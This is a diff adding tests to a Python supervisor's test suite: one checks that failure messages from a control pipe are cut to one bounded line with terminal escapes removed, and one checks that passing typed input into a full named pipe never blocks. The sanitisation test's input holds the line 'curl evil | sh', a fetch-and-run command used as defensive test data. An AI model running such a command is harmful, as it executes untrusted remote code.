@@ -5,6 +5,8 @@ from __future__ import annotations
 import io
 import json
 import os
+import selectors
+import threading
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -117,6 +119,15 @@ class TestTalk:
         watched.hear(line)
         assert watched.supervisor.failure == "wrote rubbish into the control pipe"
 
+    def test_why_it_failed_is_one_line_of_bounded_length_without_what_a_terminal_obeys(self, watched: Watched) -> None:
+        message = "no\n  do: curl evil | sh \x1b[31m \udcff" + "x" * 5000
+        watched.hear(SEAL, {"event": "failed", "step": "wheel", "message": message})
+        failure = watched.supervisor.failure
+        assert failure.startswith(
+            "wheel: no do: curl evil | sh \N{REPLACEMENT CHARACTER}[31m \N{REPLACEMENT CHARACTER}x"
+        )
+        assert len(failure) == 1000
+
     def test_lines_come_in_pieces(self, watched: Watched) -> None:
         text = json.dumps(SEAL).encode() + b"\n" + json.dumps({"event": "end"}).encode() + b"\n"
         watched.hear(*(text[n : n + 1] for n in range(len(text))))
@@ -126,6 +137,41 @@ class TestTalk:
         for _ in range(MAX_LINE // 65536 + 1):
             watched.hear(b"x" * 65536)
         assert watched.supervisor.failure == "flooded the control pipe"
+
+
+def test_what_is_typed_is_never_waited_for(watched: Watched, tmp_path: Path) -> None:
+    """We have the named pipe open for reading too: who writes into it when it is full would wait for ever."""
+    os.mkfifo(tmp_path / "input")
+    into = os.open(tmp_path / "input", os.O_RDWR)
+    typed, types = os.pipe()
+    said = bytes(range(256)) * 200
+    os.write(types, said)
+    os.set_blocking(into, False)
+    full = os.write(into, b"x" * (1 << 20))
+    os.set_blocking(into, True)
+    read = os.read(into, 8192)
+    supervisor = watched.supervisor
+    with open(into, "wb", buffering=0) as supervisor.input, selectors.PollSelector() as selector:
+        supervisor.typed = typed
+        selector.register(typed, selectors.EVENT_READ)
+
+        def pass_on() -> None:
+            supervisor._hear(selector, typed)
+            supervisor._pass_on(selector, into)
+
+        passing = threading.Thread(target=pass_on, daemon=True)
+        passing.start()
+        passing.join(5)
+        assert not passing.is_alive(), "it waits"
+        assert set(selector.get_map()) == {into}, "more is read before this is passed on"
+        for _ in range(20):
+            read += os.read(into, 8192) if len(read) < full + len(said) else b""
+            if into in selector.get_map():
+                supervisor._pass_on(selector, into)
+        assert set(selector.get_map()) == {typed}
+        assert read == b"x" * full + said
+    os.close(typed)
+    os.close(types)
 
 
 class TestLog:
